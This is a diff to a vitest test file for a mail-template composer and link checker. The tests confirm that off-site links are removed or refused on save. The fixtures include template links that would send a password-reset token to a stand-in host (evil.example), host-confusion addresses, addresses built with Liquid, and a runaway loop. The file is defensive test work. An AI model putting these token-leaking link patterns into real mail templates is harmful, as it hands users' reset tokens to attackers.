@@ -1,11 +1,13 @@
 import { describe, expect, it } from "vitest";
-import { composeTemplatedMail } from "./compose-templated-mail";
+import { composeTemplatedMail, type MailLinks } from "./compose-templated-mail";
 import { parseTemplate, TemplateSyntaxError } from "./template-engine";
+import { checkTemplateLinks } from "./template-links";
 
 const frame = { footer: "Sent by the centre.", buttonFallback: "Copy this link:" };
-const allowed = ["name", "url", "message"];
-const compose = (body: string, values: Record<string, string>, subject = "Hello {{ name }}") =>
-  composeTemplatedMail({ subject, body }, values, allowed, frame);
+const allowed = ["name", "url", "message", "reset_url"];
+const site: MailLinks = { allowed: (url) => URL.canParse(url) && new URL(url).origin === "https://example.org" };
+const compose = (body: string, values: Record<string, string>, subject = "Hello {{ name }}", links = site) =>
+  composeTemplatedMail({ subject, body }, values, allowed, frame, links);
 
 describe("a templated mail", () => {
   it("makes paragraphs, one button and small print from blank-line blocks", () => {
@@ -68,5 +70,71 @@ describe("a templated mail", () => {
 
   it("stops a template that would loop for ever", () => {
     expect(() => compose("{% for i in (1..100000000) %}{{ i }}{% endfor %}", { name: "", url: "" })).toThrow();
+  });
+
+  it("stops a template that would loop for ever with a TemplateSyntaxError, not an engine error", () => {
+    const slow = "{% for i in (1..100000000) %}{{ i }}{% endfor %}";
+    expect(() => compose(slow, { name: "", url: "" }, "x", { ...site, strict: true })).toThrow(/limit/);
+    try {
+      compose(slow, { name: "", url: "" }, "x", { ...site, strict: true });
+    } catch (error) {
+      expect(error).toBeInstanceOf(TemplateSyntaxError);
+      expect((error as TemplateSyntaxError).kind).toBe("limit");
+    }
+  });
+});
+
+describe("links in a templated mail", () => {
+  const reset = "https://example.org/nl/auth/reset?reset_password_token=secret";
+  const evil = "[Reset](https://evil.example/r?t={{ reset_url | url_encode }})";
+
+  it("leaves out a button and addresses that lead elsewhere, also made by Liquid, and keeps the site's own", () => {
+    const body = `Hi.\n\n${evil}\n\nOr https://evil.example/?t={{ reset_url }} or {{ "https:" | append: "//evil.example" }}.\n\nSee https://example.org/help`;
+    const mail = compose(body, { name: "", url: "", reset_url: reset, message: "" });
+    expect(mail.html).not.toContain("evil.example");
+    expect(mail.text).not.toContain("evil.example");
+    expect(mail.html).not.toContain("<a ");
+    expect(mail.text).toContain("See https://example.org/help");
+  });
+
+  it("gives a security mail the platform's button, with the template's words only", () => {
+    const action = { label: "Choose a password", url: reset };
+    const own = compose(`Hi.\n\n${evil}`, { name: "", url: "", reset_url: reset, message: "" }, "x", { ...site, action });
+    expect(own.html).toContain(`<a href="${reset.replaceAll("&", "&amp;")}"`);
+    expect(own.html).toContain(">Reset</a>");
+    expect(own.html).not.toContain("evil.example");
+    const none = compose("Hi, no button.", { name: "", url: "", reset_url: reset, message: "" }, "x", { ...site, action });
+    expect(none.text).toContain(`Choose a password: ${reset}`);
+  });
+
+  it("keeps an address a person wrote in a value as text, never as a button", () => {
+    const message = "Look at https://elsewhere.example/page";
+    const mail = compose("{{ message }}\n\n[Open]({{ message }})", { name: "", url: "", message });
+    expect(mail.text).toContain(message);
+    expect(mail.html).not.toContain('href="https://elsewhere.example');
+  });
+
+  it("refuses on save a link target that is not exactly a link variable or the site's own address", () => {
+    const kind = (source: string) => {
+      try {
+        checkTemplateLinks(source, allowed, site.allowed);
+        return "ok";
+      } catch (error) {
+        return error instanceof TemplateSyntaxError ? error.kind : "other";
+      }
+    };
+    expect(kind("[Go]({{ reset_url }})\n\nhttps://example.org/help")).toBe("ok");
+    expect(kind("[Go]({{- reset_url -}})")).toBe("ok");
+    expect(kind(evil)).toBe("link");
+    expect(kind("[Go]({{ url }})")).toBe("link");
+    expect(kind('<a href="{{ reset_url | url_encode }}">x</a>')).toBe("link");
+    expect(kind('<a href="{{ message }}">x</a>')).toBe("link");
+    expect(kind("[Go](https://example.org.evil.example/x)")).toBe("link");
+    expect(kind("[Go](https://example.org@evil.example/x)")).toBe("link");
+    expect(kind("Visit https://{{ name }}.example.org/")).toBe("link");
+    expect(kind("Visit www.evil.example now")).toBe("link");
+    expect(kind('{{ "https://evil.example" }}')).toBe("link");
+    expect(kind("{{ reset_url | url_encode }}")).toBe("linkVariable");
+    expect(kind("{% assign x = reset_url %}{{ x }}")).toBe("linkVariable");
   });
 });
